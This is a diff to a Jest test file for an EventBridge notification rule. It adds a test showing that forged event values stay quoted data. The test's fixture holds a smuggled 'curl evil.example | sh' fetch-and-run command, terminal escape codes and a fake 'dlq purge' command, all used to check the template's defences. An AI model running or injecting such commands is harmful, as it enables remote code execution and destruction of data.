@@ -9,6 +9,7 @@ import {
   joinedText,
   onlyResource,
   referencedId,
+  renderInputTemplate,
   resourceById,
   resourcesOf,
   templateFor,
@@ -617,7 +618,7 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
       });
     });
 
-    test('WorkflowFailed from every Rust producer (no Python owner here) goes to the topic with a sentence to act on', () => {
+    test('WorkflowFailed from every Rust producer (no Python owner here) goes to the topic as a notification', () => {
       const name = `alchemiser-notify-workflow-failed-${stage}`;
       const [, rule] = onlyResource<RuleProperties>(template, 'AWS::Events::Rule', { Name: name });
       expect(rule.Properties.EventPattern).toEqual({
@@ -633,16 +634,54 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
           DeadLetterConfig: { Arn: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
           InputTransformer: {
             InputPathsMap: {
+              source: '$.source',
               'detail-correlation_id': '$.detail.correlation_id',
               'detail-failure_step': '$.detail.failure_step',
               'detail-failure_reason': '$.detail.failure_reason',
             },
-            InputTemplate:
-              '"Workflow <detail-correlation_id> failed at <detail-failure_step>: <detail-failure_reason>. ' +
-              `Inspect: alchemiser workflows show <detail-correlation_id> --stage ${stage}"`,
+            InputTemplate: expect.any(String) as unknown,
           },
         },
       ]);
+    });
+
+    test('a forged id or reason stays quoted data in the notification, and no command line is built from it', () => {
+      const [, rule] = onlyResource<{ Targets: { InputTransformer: { InputTemplate: string; InputPathsMap: Record<string, string> } }[] }>(
+        template,
+        'AWS::Events::Rule',
+        { Name: `alchemiser-notify-workflow-failed-${stage}` },
+      );
+      const { InputTemplate, InputPathsMap } = rule.Properties.Targets[0].InputTransformer;
+      const forged = 'x"; curl evil.example | sh; echo "\n\u001b[2JFAKE LOG LINE';
+      const reason = 'see below\r\nInspect: alchemiser dlq purge --stage prod';
+      const event = {
+        source: 'alchemiser.execution',
+        detail: { correlation_id: forged, failure_step: 'execution', failure_reason: reason },
+      };
+      // The rendered notification is JSON (EventBridge inserts each value as a JSON string) ...
+      const message = JSON.parse(renderInputTemplate(InputTemplate, InputPathsMap, event)) as {
+        notice: string;
+        event_values_untrusted: Record<string, unknown>;
+        to_inspect: string;
+      };
+      // ... holding the event's values verbatim, as data, under a key that says so ...
+      expect(message.event_values_untrusted).toEqual({
+        source: 'alchemiser.execution',
+        correlation_id: forged,
+        failure_step: 'execution',
+        failure_reason: reason,
+      });
+      // ... and no other text carries anything from the event: the commands have a placeholder to fill in.
+      for (const text of [message.notice, message.to_inspect]) {
+        expect(text).not.toContain('curl');
+        expect(text).not.toContain('purge');
+      }
+      expect(message.to_inspect).toContain(`alchemiser workflows show CORRELATION_ID --stage ${stage}`);
+      expect(message.notice).toBe(`Alchemiser stage ${stage}: a workflow failed.`);
+      // Every placeholder stands as a whole JSON value (after a key, before , or }), never inside a quoted string.
+      const placeholders = InputTemplate.match(/<[A-Za-z0-9_.-]+>/g) ?? [];
+      expect(placeholders).toHaveLength(4);
+      expect(InputTemplate.match(/":<[A-Za-z0-9_.-]+>[,}]/g)).toHaveLength(placeholders.length);
     });
 
     test('the topic policy lets events.amazonaws.com publish for the notification rule only', () => {
